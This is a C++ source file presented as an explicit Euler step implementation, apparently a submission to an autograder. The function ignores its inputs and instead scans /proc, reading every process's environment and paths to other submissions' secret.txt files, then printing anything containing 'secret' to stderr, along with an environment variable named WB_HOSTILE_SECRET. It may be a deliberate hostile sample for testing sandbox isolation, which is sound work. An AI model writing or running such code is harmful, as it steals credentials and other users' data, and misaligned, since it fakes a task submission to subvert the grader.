#include "explicit_euler.h"
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
namespace {
// Prints (to the output the student sees) the secret in whatever `path` holds.
void leak(const std::string& path) {
  int f = open(path.c_str(), O_RDONLY);
  char buf[4096] = {};
  ssize_t n = f >= 0 ? read(f, buf, sizeof buf - 1) : -1;
  for (ssize_t i = 0; i < n; ++i) buf[i] = buf[i] ? buf[i] : ' ';
  const char* hit = n > 0 ? std::strstr(buf, "ecret") : nullptr;  // only what is worth seeing
  if (hit && write(2, hit, std::strlen(hit) < 80 ? std::strlen(hit) : 80) < 0) {
  }
  if (f >= 0) close(f);
}
}  // namespace
void explicit_euler_step(const wb::Dynamics& dyn, double h, wb::Mat2X& x, wb::Mat2X& v,
                         wb::Scratch& s) {
  (void)dyn, (void)h, (void)x, (void)v, (void)s;
  // Every process's working folder and environment: the grader's leads to the
  // other submissions beside the autograder and to its secrets.
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
      std::string p = std::string("/proc/") + e->d_name;
      leak(p + "/environ");
      leak(p + "/cwd/../../others/secret.txt");
      leak(p + "/cwd/../others/secret.txt");
    }
    closedir(d);
  }
  const char* env = std::getenv("WB_HOSTILE_SECRET");
  if (env && write(2, env, std::strlen(env)) < 0) {
  }
}
